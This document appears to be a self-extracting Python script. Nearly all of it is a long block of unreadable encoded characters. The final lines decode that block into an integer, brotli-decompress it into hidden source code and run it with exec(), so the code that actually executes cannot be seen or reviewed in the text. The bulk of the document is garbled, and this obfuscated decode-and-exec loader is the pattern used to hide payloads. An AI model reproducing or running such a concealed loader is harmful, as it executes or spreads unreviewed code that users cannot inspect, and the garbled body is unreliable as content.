@+LpM9Iu	w6E%X662?EӶ՘wXt̾MնlArOANA+)Ɯ+Rp%1<,M{Z%AAvx^U	s:a6j	n%aR+IQ8Wȳ%wݚA]CV֏k1(ȎVSƂb/dqbÎP@H؊ _ϵ&JuNh"wgw۩aNmo-;:шD!U؋B8*طṉ̟#$)v*;z[N8kQ:Dȃ)$~F{s9Fc5ltIe5aH}1JG/`RVItaP2Ԕw5a`#[<:Ėc!	hh`3 |u<߬Y1x֢IgBOy׭w}M>Ǩ#iWH2+<D:_
3qdY@cQ5a7 `gĝf~ml#;	{?+c" ։~P`^JJѺHN#,)?x{X?'0̈}aZ$RuEɋF+Y(~gQߍ@_`[՞Q _ҒxwskضEcer~ʫ[nۜsqLε_>ٶnx~;kD/^t	5lkbui	Ҏm!۷AAN;7Dt4GF!op }ʠ25veSS5TrbLTg>Fyg}ԣqH^sO8F-B"ì=s4@f01d/.}=h1Ԩ1ËB[&'íN/^J&"y`>6m_MKu6YI[1whE+'7aiw߂˧G=3YڸA?a@.L"52kwJt/PѤ"U_XN]A#3*{Kd"Wr:yofn/zxW{ӱӘB+)5f-m7h4GPA0-ܕ~8	Woj:.A'?_1za_qPmrRcH66dSĻ#//^	i[<õ ,]&jf'gdeS/^ISȘMϘ%~Oo&͹QFˡb4o	r1ܷ؁~ʳ&@_yߵ{&KאKDJZK?Bsn1rTg]d׍s̫m٪o5U*=\:F:i^Pgz6@-ѵÝ%B05TzGv[n%zP18Ը\VbMH,tĄ1745UԣX߆7'wTH7!Ȉ9{}~#P1kF=3esLg+HީF	XTrrm2lm'9nYt]92WSyƛEgS.@2mD[F߸CC׽c5Sx_`;v99xV"[8ߒ2,.,fω1PxAG~"@{}r e3be`y̳!XǠUŢ6?.E,~]hRbJXEYDYa@sW"PًUUJv,֏	-SYQ>eɐvn?d,([6O*nƈ?͋/l!q~#RGٺ|Mjq	8Áh<COSnP)n!P?\N(ЅV߁*{PnI͙ס@}0%uyi=bP~/C@v%VT,F8ȧp-iYmqO>ͬ`6q3[Ë6m}V5y<(tɺi;Gw4,_8}!A
RU)
c/Ł|B|҄(Ϧ~u?8cߌ@-6YпSG MF=$^+-,=p$@0vɶkY¯'>^ hm=hÝص 93LٕUk69Kj?ћ$(xJsGyA&w
D]!MP\ 7gIbZPh4*"\ĵw_Rߍь"D~IHW\&/E!}PĽ<p(8;v2#P{JH:?/Mֿ"1AEj]%ޖ[{uWdSaj27JR2LYJ`~p׾G&׫*M>sӕI*P446m!͓q[YδU|Nz֖oָ.jpg4	Iǝ}TG`M2!̓w>ŋ*;c!hOݔޛ͊ܛ~&33aߪ͛M݃[:22ysK:jsx[˼IʳZ"y6խPD-e7@Թm4h,(RĤ;\SNg6oH%e&J3%1)*y_Kh׌>;7^S!=jԜߋWWWOl؏
<\n	oaYA}vBE+7GݗiKPl
zg$_Öγ9%gR]h\vr+9²4@F_ϭiN|u#w0=i0;.zaؒB'CfϤ0(=Mw.*POSCWó+"B$QO2HtzXg?^35?jߘzĥy\k5cNrB1?pҿ-.YTJa.θ31jP
ԂX;F͗3t)Z9	wu8Խ,c%txdNƳ:ҳ$ބ$Xc%Eqޠw1_O#,&~eХaiP.EA^<-%[t:Fnl	,
sAuNP7&b>tهE9K΋C>+'7tomM[|bqhRR\
8=jƜ#{\<I|ʕPώٙxbG+҈\w)LчcAXk*45RHJ=40[}"_Z*$<ԧ̜W..%_k7 ѿ-)ng!zqއI}x/Gc(Ýk4qOu+U l4/pڎ.{D9!chY*
Q9	L<nXģc.n
ޛ^z'`l7ۣgfӣAޗ{Scyka_`)LCr%R=ӗSH<0jŊ)G7Ƽ*HuIqOǛ)Ӭǰ !܂km{f,=kXVG2<85q9c^mt$͛|v;̇sI!q^v/t:өd؄Cf۶D*3*=lb ݖAɜ=JQjtJtH9Yrk{^7JܤK8E7{͕Ǡ)_֎R`|iqxŤr!IrkEI!P[zjȗ(0	JH͑ݷmz=%ݶ؆
Ͻi7ݫgФDHDBPVEmGn,pWQbZAׂG-W	N};F
vFvƚ>Z}F?vfvްpޕT*E,VSn!Ѹ,!^C&6
f>oED+"$Bld~}*.w{=Ww+#(9.9;Iبk:ePlVT]MVaŁBVs?|M$HЖB0}=)#!Cv#Ȩ2geM..iH|
1L:rHc}N6͠.k
%Dsʚ;M<$'J˞8Cί7v4ʾycbg=+CH߉'ſ-d}[.Z5eҒ~aqcD߭҉K|dذmsL%@<T=\?)֮2P+	OޚZ+$pJ_ʌ<jtlm5kbsMq
RQ]tnYXte&.ڌ
ПH%Nxs^=V%>k\äf&E%5e[Eh+r+/Kop."UsSr?
-&pnPhpU5m3P>VpkC8UL7ПMCp=O[D	mx&̓*Ǯ~Xdh3>he=k8vlϧ<:CLI.Pӕ~ީJvLg"b7BLJ_^v81޷	2>[}EyF+.Vefed{K-IpgÀ EOs;غ=$ֲ@\j(tL~V<"LFmJi0HʠN`xF4yf}Tr֑Z8$5ùφ95K؍A7xAĜ>Ȅ
lQ=aX3j|PHݚÜGp+;]kņƊX*"عS F$ʏK-f[!"vwh#3-98]*Eԍ`ņ#@TTpUBߊI^59
(~#\EϞ$iboMA>
T9I׹|u5pXq_Z	Ӹ֚4ʙ%Ȼzȳhk=,Dfi}
N$̛ 5/".]mǵɌqĤn@%NS9tq\zơb-)>C7pdX';>NkGO|iSnu|8x6)gV~c!,Yl!=ˌxĺϔ\yIQ*'~8wC0j?ęWV/bКdnP?$>	_E!Ł
QЂjUR?cRPEV-p 	]B`hP}Y(z'YfY]o:s$ !pJ60Xb8)LN*5t%X-nCa_"=!i(dw?as[p&WB|drj-K̠TEPEX<c mPɻ6Uݚ^zN[f}Q,ܲNy8Qnt4CqD8Gd yYz@߈G;UN1dCyloF4 J>8nB D.-յ&DX?ΏXWhX1u}!$`:&Ć	`<ޟfd"ͤ-d%Ng_;
8*skɔڽ\ѳ3bC|u|qy:KjE"J%KZ@%MH)mFuN;ַ»ay".PL,[	O=b
it_6k
bȂأ+sxt<O*Rɩԩ{Цa8T_Xre(Ȍ9d3Pmu+1DPmKxZ&2p?ÁV73myM0	d\`Tmy7v=H'OdީV"c_3lN,<s1#N=Fi/Yjj'όqyBU%݁^Kr2ˬG~6c:ΖO7`2?Ғf_NIN`D٣@k:mo	ˀךD;Ti1@DhL~)?.̭zcLƉxd_I[gҝԃ}*ƈΓöGjdedv/V4'I٪S" ~ј<7;z-Ӏ-ih+z϶PikЇ1j2&?MLu%QU2	n,yu>oIK0̝
aaWJ
Ϊc#^"m&&){g~I+]@;k!BR^pع2CkPQ(Q 5C0ɋǬC0}gНC"ӯYId+o͘*ȴmv_2ĢTQUizԯ31?<Вkbδo!ľ̅8Ŕ\'.ɥijpaۨz
uQA4i3  vPqƑOҥq9 -.
"o?ݾ !RrE;Ȝmɺth/̳ \^>M3jps҈ӿqܟ׋WQWLMǪJEjzkxa4l)FY)Д#}fJJͣCSƘDT:?Pg|Hb"ǐ[@u<M\w^|zwՕ3)JXyqTxSHG߲aImEʅˁ(Bkc@J[Ч5:{%dKSy}9f֯VNQ<;Z$4_Ĉ+Df17S_.Q1(vm#} JܲcKF-GF&S[`M`$	=\t"5+SϿsOYVccʙ"
gYŤ@<UOX1F Ѓ˧-V%ȂNh®{*{Z~/ڐsKɏnUi+ƻqCanIM6 tc[5OQ2oz;^^֨)"׀0:yocNti=̈́5*a_#Gy>3aBE%tun/ljɄ_,~xeڼqڒ=	_j^pr.K֙؈.XͽŋyWpA)|w͋:aKK_Gx/RFnqg'W;07A#A.EϪץtQ/~БsYt ZGȟظHGxCdGݯOR/?NKЄ.\uԟx|aPwu-$oFȢXtơ,VՇCq*j?ħ1õ1*&Ŕ*<̉uƅ#U CӺJA',aONLPh`
pNyY؝,t
q|<wҝǧJ:}uĎ]Q<KWSYʓU9o6x
fYwT-2h60.xI,|^\[;~pռ*+]wl	/FJ͋Bdmh`B*Աя"m\҂YVDϢO7A9v :R+2FNRUuUuctqOݕ0Xcى~K N9heW^6ELRex/b^AAGǖL"uGKK67`E/Okl5c;pI^b¢/M_@H*ܷ¶%.0?|(rd
'LJ5B^x13=lH,tk-ZW&R@ޓZgext#<GNAh0/!z{jͺЍ/6|ts}j׵se@uR/c¦MPF/<*sE>Pq,9LPt|=j P]$Dю|/ϻ]kw/$OG:U!xk<حDX>E#FL@Ե"BHS)й(x[JRSCGT6%F'ސ:Y2̥*krjoo!NUZR'R#g%<fš9z|IS*+opjy;$<62gHpYXAN[~I7Wq0F9Ov{и+w ~e?߹*O$EhҎ,;mZkEqlg$2)2\ac9S0,үʲqqFY^-kJͫxɲ҉b"qāY֮&kʳ<F&_
sIСfvѨrZI#-YS3oeڌf5gv=}:ռѪt4H-9\5`2HPݟ7$,ߔʥ'OIMQtrɹ8YU|5кw"V'NhƼ }
LB}vx{;<?|f1{[ڹ:!pVQm"N> ue`.:5+z eKawbSS`glCxoԚzEʽȪ"،PK8BBР@S=k͵{fT8 :1M<ɤ|&σ1^L3Jh&+Ȃܬsdddӻ}^i`ArCo)˙DQ
Ez4F۟qǻ̇'~2K.zфԸZoP`K)/kWs[Zf:NMt\3Ŵ't%+ʕ-(qt$ӎ0όLm#IJ;K3ȤE>sBP{+tJ޲k,CCiO=1r&.30b^vB(2CV\w%=xvNM3jZ?k:Tjj-
;sޯ5 Rjg2&|)hǛӹuowC7OcM<-)͐Kh,
oQ%d?ޫօޙRqtڜJp*wɅmT+Ƌ.iyl
-ɐ(%~fW|wX؍Q	hzȎeQ<uËs}l3ydlsAƆ%;!LIOc_ڽM;b5_-2wvci&X.Hz[qBJvA ޒNwͩbԫ(a
~?n49׊z]HF§QhW&ِe@A/F}V:R3zM'ľMqrC}Lc3_(:H2އkdɁdLŵlL*
.ڎD}@8;n\X\XX	j/)RCҲGka~2eBFȋqGj4*d)ڬFW5ٽV6]XޢU"%&O*><֤YCy'"M.ДD:=c-d;H[GŖЅi/_T,lRMo[ҊDOQPHeVc	'7ʊΏNۮ>L-Ed?m}{`P	NxroovWO\(IC`>Es6,ٿMPi̓}N.93*{n+J Whþd};ibRdW1qϗ!V$[Fo*gz%<X<\H0>u~g,ˎ6ҥ(Ͷ;\ R:Րqɍ|IYفn:2&6=\A0cח߄W2%y1z38N7?UlSXM,du>e]ra;I͕9y1 csߏsɆ̕J+!{&,݌8wd0	PNGxGюگȭs@uEDLQ9< XJMNv,9}DXBΤ&(7Xug(nj)ϗ8wrЊ\DV^kkhXsӉxߚ9HЍ?2Ň].}8D~#m+e,wh=tt
ު~*͟ݘ*`n]P4++
50o%Yl(J&њ*^D+;վH7]Ք=ZavJ-PNƝZ6lDȈK\R0*xϹ90o]Z5N0O OB8Gɞnɱy#ģɦ-	NOe.e{3:X ۢTWvP9ΟΞm#3wB`ta`MlGoSHRb͊sU7kpsȷ|Xe\P&Nkekx}ƮyCڎ}+߮׊vLsף<ÔWאHrƢ	UuRʇ.wu I6`;(ucĎ#Ko{j?G|SEݍA^zĉ@؜ģؙ&dؘ"ٺ`o{ʙA,mh^PxäʅgNS^)ɕՍA0uey?zJ$_W؏tv{z=c3kHV#Z\2c;nܛwkG>=^KOz+i7fȑ.'ȀMHWEݖw\(OjSF1o@(i`
maOW^pX(k̽-i.*QtB(ygۀ=ԣFq{I}sX2oLR#*,m;H ׶
Ο|uܓλК]Kݼu	0@55`d. -%LޮYw:h"=irrcm"dlmC7V<tXR/?3?UջXە0Q$	{+vsZΠobe>J'@`>v4كO03Qͺt)`0vGyp,-_:&VJ(kO4^!khpMֆS>)sjY	:*G/Rt;T#A(K)4`~Wu*(o>*J1ЕR3?n`r|M#F^>F1,ýbv0|BcIVY=gR}D&v6xrXlXvFKb>Ma]`ڇg[ns:\7y?SIzO'-q֭Ƿ%xƫ(nkЉVz*׫ςhR6ez!6N%d%J-+̦!MZ=`ݮa)+0[5' 2jyns>KoCRtONn5^^`c^FuhQw/F[_wp^KAe-A]U=EZsJsus^U[ɑ&K~3+/JF1@S΁ׂd8Fx^FEFXX;:2n~nx<@pYKz]:٠jƙ
@b@`IL}}؈9,/$t3t
ê]`_k[GW[8Rn9eڡaDGоgo	Lf`hKjYG>O83#C5[ƥI[<8hk{Bٴ)co3*å'XOIt^8Ơou?A	;hR -b~#ҙCp2^voqJǣW!rL;W$:alCEiլ%Vɨ!-ۛ_soܪFR_0L:7dg-YM|u܀`#҅|>܀C֘*lV&"A^6Ŧi5-D )ACW^/K^=xn+wVՆuy]zoŘ@%lbV^)׵|qZ2	,5BEmdڏ.\MTҺ'Gx>x2 :_4\7^!.=6ٝ=u[ngAȪ\$w~5ؠu٧bϧOGMý8w(gљYm]ݲyi65,lVOZv5CzR\,Ddn7dOELFă׷I+.F-IXPg^Ź&a	IT	rw982\_
Tz(ʓ*wA?w֩prsYze-4Vִ4ZBaӂFyh,ݨ/<~pc)E4ˬw	GYT#$9بZZ4fm[zEөhbȭS:0{0ܚ!Ɍ9p~'z:t	Жdw12.Mx):nTt~xfv ґ	"Cl@ϢIO}T[=Dց#Xrc4j{jq^=6a	@}hރڎݢ}~sv[	oňāʟyF$`?+ Y۠&7¨8_mF~Ubؚc.'dF98&k0ezKNB1)t<<0[	#ܟ#m׍'~A}Di"wiG*`ÔVŤ#lHƠ^S1˟NѠֲ&ĵ$ք!=f35\/55d
݁s2EYȈVlc5n/ē?F^z:|`ǩ<5$qB=pkwh[>C(n}kA#m5C˩!zG`q+K-:DXi!<	}CQ&6+e#"(NR&\[	Wm`ǿ1q;A_ƺN?2Lߊl cE/Ǡ0p_eהyʦLV#Ww`>z#V6	ȆrM_>9Qݓ
as^FSl2CHh҇Ћ߰! ͔<sNPZR6[w,y*<FlδNIQ#ޢdЛ7s̗ikSn7|/5[ȼI]yf[Te؉^E')`)8'4\g1ƉvŔQjrLxF.z3A)g
q˧Ӯ@fԴoc]d;XWt>Q~B&[|h4JZ)X*ka*
J6c;Zu9"Kr]oPS58$`HÊlGuؚwvGU+@ć*&߫);_u-39yzʶ|=@ǳHfMU^ώ;i/ud,J_5:Zh:vO
~gFٿ
Dþ.x8J0-mMC:ߋgo*ը+Ƅ\:R4<~QS#d{vQ_
`8ڻj|ېQk̞ms4|vQ--;ϕ+ol^K5hߣmR˖kσybzאU6bJEWRW^S;TByc| Է9M)!׷DY5IS\+ɖ;8Azɐ%յ@bE״]hsիr/'r^>{G:EW6;]m>lŜϸZψq|]LKz} 2N؏̀~US
ӻwk{F'aCFe}^߄OՕ0;rñO4%T#vĎT5)<؀G&8~N;r(1fЛ$#RţB~zXT٢&m[W	դ,WsۇU'w]l~>%S^kӥٮAK@%B{Þ\a>8ݣH86Ӿfϰ'x"ɇs.%JbU r1f.`sw;FmG[(b̦o.m$\M)\nȱ(I߲W0b2	v|kt7k6.xoey1`>pBF0|zPv\+ڜѝ8KvF+hId$Riud؉g9M}X ǀL+ss·Wě*Ϻ	'Smt<ZUl?D'ipA3y|'!i~K+qgdbw{NٟUn|$P'mܚg5Lbl`Pmƭ߈~4[^){<f5͝U^gVT~DX#r^ƚRؿtfr_ݻޮ8t_sc)@ΖٮuOeEDLW| ǖc1y"\&ka0=|]B<{Ke6)	
ޙw8DRr)$r$Xݺ?HO#F{Ur~Ewģ;/zx6p	5[؅8hV|ߤI+	 ׿CmaHp.[,˫[ŀ4tT}8yOM`"S5	yU=hEJnxbw),Yt%onC
op|mORx7~;V@s z)a S-׏v^?+ݮ"e7fߛ/4L8Bj$BNB%6oV?tɨeHÄ́{OKQHq=v\tg6;d =oF>Y8dyBc|i\[v?7Bջh0CВh;B?CEdY\|h`{T<ouº[/`kW8<M8ж+ņwnˉ ݌4ҿˠҤsNK'D=F$bַO/D8GM|]K=ccYbΉ(NzХڷ2Ei,#5ҒbIۆ{$7=E]YMX&:.D{`-[n 80po(.r*TBK&?'j-:*hj,7VPMK:m/8hj0$|`GFW$޲mitzzrKf&8)ҝ"X2]GAsV~l624
Dk͔&TMʾ09ӂ̴ ?cfo%6EƴlUHץ&s#7KA`:Z|8i*^xLafs!тSUou٫yI!JaQu-bJG[w:iTdG7`&-OGbu%J/}Â^CɄ5UDFM߼YZ]؟^I߯6J+3]vsnNڈ[եLY%eQL-μtՍޙN>ך9.4W%x^H1	og;!sϢ۰Y^3lŝG,3VτjcqmFךecz)5L\}.PqfU 3ǥ$;ڏ#4<]m%T`k/ɬh;}Ȓ`9Qc܌N%@\jf]<

ևRg02e%CŢ׋&Rn3j;t.˽.Y`vCApÇHUہ_s(u,oJ_	a]OR݀k9%<gzTFսvx84R(՗@߃LS?{Q1r[7ag=4:.ղ{Οȳa/zv3ISmod~Ycޮ|wll#-k1ǚWmբɲ_%^V(+RHZӨPfH4&f~9`Hgyɧe?ɈJ2"Q%E.?AR
Q!5њ(R?{0ȩĴocY^S5Tn'$oي:k9gBۄO:	2alg>pHc³yn~XIy/7\S:E˳J7Ht$q^ <ÝAƩqɬ޶hM;A!X(36XY6f?l5
د!	M%|`RnIۦļuFӘ@4cծHO5ihP
	!b0Axye}djւ~=!½F"5DGR<uJX"yQ <4]ԻiбCI%:ɏ5E^^+r!$TANMۧ6Kw*Z~d`rdݎ
g"|ǌp^1a5XR`?wTz!wujs1VAo*ʰś\aȁgyx"J:3v:9CIO+*`.ǯ!`#t19sr6R[jdk(y9G9\8;9]$Jst{rx"*ĲD[1MG\cVkp H2AT;={S{iq:Hr$M+6J2cΦU?[s23Yp6DNgm6cӾ 8ƢMBzަY˿rG͐HUIʣRs`{!}k?Řu4>g 
Q&SyԙL4O03wđHZ(k*	~;m-b4#Z&I6"o~5\"qlĳLזS`E,&W,7A:[jYNHe.؛C
x=oK$`||:2<Q0<\E1Ewүh''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25338)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
